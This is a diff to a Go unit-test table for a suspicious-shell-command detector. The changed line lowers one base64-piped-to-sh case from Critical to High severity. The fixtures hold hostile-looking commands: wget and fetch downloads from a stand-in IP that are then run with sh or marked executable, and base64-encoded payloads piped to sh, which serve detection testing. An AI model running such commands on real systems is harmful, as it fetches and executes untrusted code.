@@ -51,7 +51,7 @@ func TestSuspiciousCommand(t *testing.T) {
 		{"a file that is fetched and run by its name", "cd /tmp/ && wget http://203.0.113.9/y && sh y", detect.High},
 		{"encoded, and harmless", "echo ZGF0ZSA+IC92YXIvbG9nL2hi | base64 -d | sh", detect.Low},
 		{"encoded twice", "echo ZWNobyBaR0YwWlE9PSB8IGJhc2U2NCAtZCB8IHNo | base64 -d | sh", detect.Critical},
-		{"encoded, with another file", "echo L29wdC94 | base64 -d | sh", detect.Critical},
+		{"encoded, with another file", "echo L29wdC94 | base64 -d | sh", detect.High},
 		{"encoded, with something behind", "echo ZGF0ZQ== | base64 -d | sh; sh /opt/x", detect.Critical},
 		{"encoded, from a file", "cat /opt/x | base64 -d | sh", detect.Critical},
 		{"fetched by BSD's fetch", "fetch http://203.0.113.9/x && chmod +x x", detect.High},
